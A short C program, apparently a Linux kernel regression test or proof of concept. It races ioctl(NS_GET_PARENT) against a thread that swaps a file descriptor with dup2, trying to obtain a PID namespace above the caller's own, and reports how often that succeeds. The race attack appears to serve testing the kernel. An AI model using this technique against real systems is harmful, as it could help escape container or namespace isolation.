/* SPDX-License-Identifier: Apache-2.0 */
/*
 * NS_GET_PARENT of a namespace above its own is refused: so a descriptor is
 * swapped for that of its own between the question and the answer.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/nsfs.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#define TRIES 3000

static int own, fd, ready[2];
static volatile int below, done;

static void *swap(void *unused)
{
	char byte;

	(void)unused;
	if (read(ready[0], &byte, 1) != 1)
		exit(6);
	while (!done) {
		dup2(own, fd);
		dup2(below, fd);
	}
	return NULL;
}

static ino_t inode(int file)
{
	struct stat st;

	if (fstat(file, &st))
		exit(3);
	return st.st_ino;
}

/* Return: in the child 0. */
static pid_t fork_below(void)
{
	pid_t pid;

	if (unshare(CLONE_NEWPID))
		exit(4);
	pid = fork();
	if (!pid)
		prctl(PR_SET_PDEATHSIG, SIGKILL);
	return pid;
}

static int attack(void)
{
	int seen = 0, above = 0;
	pthread_t thread;

	/* Not any more once its children are of another namespace. */
	if (pipe(ready) || pthread_create(&thread, NULL, swap, NULL))
		return 5;
	own = open("/proc/self/ns/pid", O_RDONLY);
	if (!fork_below())
		for (;;)
			pause();
	below = open("/proc/self/ns/pid_for_children", O_RDONLY);
	fd = dup(below);
	if (own < 0 || below < 0 || fd < 0 || write(ready[1], "", 1) != 1)
		return 7;
	/* For ever, where the other thread never comes between. */
	for (int i = 0; i < TRIES || !seen; i++) {
		int parent = ioctl(fd, NS_GET_PARENT);

		if (parent < 0)
			continue;
		seen++;
		above += inode(parent) != inode(own);
		close(parent);
	}
	done = 1;
	pthread_join(thread, NULL);
	printf("own %d, above %d\n", seen > 0, above);
	fflush(stdout);
	_exit(0);
}

int main(void)
{
	int status;
	pid_t pid = fork_below();

	if (!pid)
		return attack();
	return waitpid(pid, &status, 0) == pid ? WEXITSTATUS(status) : 2;
}
